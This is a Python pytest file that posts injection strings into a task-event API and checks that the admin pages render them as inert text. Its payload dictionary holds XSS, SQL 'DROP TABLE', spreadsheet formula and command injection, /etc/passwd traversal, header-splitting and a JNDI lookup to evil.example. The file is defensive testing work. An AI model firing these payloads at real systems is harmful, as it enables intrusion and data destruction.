"""Text that attacks the page that shows it: scripts, SQL and formulas, met again in the admin."""

from __future__ import annotations

import json
import re
from html import unescape

import pytest
import requests

from tests.factories import body
from tests.hostile.conftest import ADMIN, Site
from tests.hostile.wire import Request

ATTACKS = {
    "script": "<script>alert(1)</script>",
    "attribute": '" onmouseover="alert(1)',
    "image": "<img src=x onerror=alert(1)>",
    "end_of_script": "</script><script>alert(1)</script>",
    "sql": "'; DROP TABLE sartiq_tasks_task; --",
    "like": "%_\\%",
    "template": "{{ 7|add:'7' }}{% debug %}",
    "format": "{0.__class__} %s %(a)s %n",
    "formula": "=HYPERLINK(\"http://evil.example\",\"a\")",
    "command_formula": "+cmd|' /C calc'!A0",
    "at_formula": "@SUM(1+1)*cmd",
    "path": "../../../../etc/passwd",
    "url": "javascript:alert(1)",
    "newlines": "a\r\nSet-Cookie: a=b\r\n\r\n<p>",
    "right_to_left": "\u202e\u2066abc",
    "zalgo": "a" + "\u0301" * 200,
    "ansi": "\x1b[2J\x1b]0;owned\x07",
    "jndi": "${jndi:ldap://evil.example/a}",
    "slashes": "a/b//c?d#e;f",
    "only_space": "   ",
    "empty": "",
}  # fmt: skip


@pytest.fixture(scope="module")
def staff() -> requests.Session:
    """A browser without a page."""
    return requests.Session()


def log_in(staff: requests.Session, site: Site) -> str:
    """Return the admin's address, logged in."""
    address = f"http://127.0.0.1:{site.port}/admin/"
    if staff.get(address, allow_redirects=False, timeout=30).status_code == 302:
        page = staff.get(f"{address}login/", timeout=30).text
        token = re.search(r'name="csrfmiddlewaretoken" value="(\w+)"', page)
        assert token
        form = {**ADMIN, "csrfmiddlewaretoken": token[1]}
        answer = staff.post(f"{address}login/?next=/admin/", data=form, timeout=30)
        assert answer.url == address
    return address


@pytest.mark.parametrize("name", ATTACKS)
def test_text_is_only_text(site: Site, staff: requests.Session, name: str) -> None:
    before = site.event_count()
    attack = ATTACKS[name]
    # The identifier is the text itself, so that links and searches are made of it.
    named = f"{attack}{site.front}"
    fields = dict.fromkeys(
        ("event_type", "status", "entity_id", "origin_zone", "error_message", "error_category", "task_type"),
        attack,
    )
    nested = {"metadata": {attack: [attack]}, "additional_properties": {attack: attack}, "x" + attack: attack}

    answer = site.send(Request(json.dumps(body(task_id=named, **fields, **nested)).encode()))

    assert (answer.status, answer.json()["task_id"]) == (200, named)
    site.assert_well(events=before + 1)
    admin = log_in(staff, site)
    pages = [
        staff.get(f"{admin}{page}", params=params, timeout=30)
        for page in ("sartiq_tasks/task/", "sartiq_tasks/taskstatusevent/")
        for params in ({}, {"q": attack})
    ]
    pages.append(staff.get(f"{admin}sartiq_tasks/taskstatusevent/{answer.json()['id']}/change/", timeout=30))
    shown = unescape(pages[-1].text)
    assert json.dumps(attack, ensure_ascii=False) in shown, "in the event as it can be sent"
    for page in pages:
        assert page.status_code == 200
        assert "a" not in page.cookies
        for active in ("<script>alert(1)", "<img src=x", '" onmouseover="', 'href="javascript:'):
            assert active not in page.text
